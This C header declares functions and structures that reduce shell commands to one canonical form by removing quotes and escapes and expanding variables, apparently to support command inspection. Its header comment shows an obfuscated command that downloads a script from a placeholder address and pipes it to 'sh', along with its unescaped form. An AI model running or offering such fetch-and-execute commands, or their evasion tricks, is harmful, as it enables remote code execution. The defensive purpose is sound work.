/* shell_canonical.h -- what a command runs, in one form for all spellings: quotes and escapes
 * removed, pieces joined, known variables and outputs expanded, texts within texts on separate
 * lines.
 *
 *     sh -c "c\"u\"rl -s$IFS$URL | s\x68"
 *
 * becomes, where URL is known,
 *
 *     sh -c c"u"rl -s$IFS$URL | s\x68
 *     curl -s http://192.0.2.1/p | sh
 *
 * Bounds: SHELL_TEXT_MAX bytes of one text, SHELL_DEPTH_MAX texts within texts, and those below;
 * `cut` is set where a part was left out.
 */
#ifndef SVCQL_SHELL_CANONICAL_H
#define SVCQL_SHELL_CANONICAL_H

#include <stdbool.h>
#include <stddef.h>

#include "formats/text/arena.h"
#include "formats/text/buffer.h"

#define CANONICAL_MAX       (512u << 10) /* bytes of all lines together */
#define CANONICAL_LINES_MAX 64           /* texts */
#define CANONICAL_RUNS_MAX  256          /* programs */

struct command_variable {
    const char *name, *value;
};

/* A command as its program receives it. */
struct command_given {
    const char *const             *argv;
    size_t                         argc;      /* at least 1 */
    const char                    *input;     /* its input; NULL: unknown */
    const char                    *file;      /* that it reads; NULL: none */
    const struct command_variable *variables; /* only the first that fit count */
    size_t                         n_variables;
};

struct command_reading {
    const char        *text; /* the canonical form; the command's own line is the first */
    const char *const *runs; /* programs and scripts, in the order of the text, the
                                command's own first */
    size_t             n_runs;
    const char        *script; /* the one that runs in the end: what the interpreter, wrapper or
                                  shell text that the command is runs in the end; NULL: the command
                                  itself, or several */
    bool               script_file; /* an interpreter reads it: a plain name is a file of the folder
                                       that the command starts in, not of the search path */
    bool               cut;
};

/* Read a command, into memory of the arena. 0 or -ENOMEM. */
int command_read(const struct command_given *given, struct arena *memory,
                 struct command_reading *ret);

/* Append the canonical form of a shell's text. 0 or -ENOMEM. */
int shell_canonical(const char *text, size_t size, struct buffer *out);

#endif
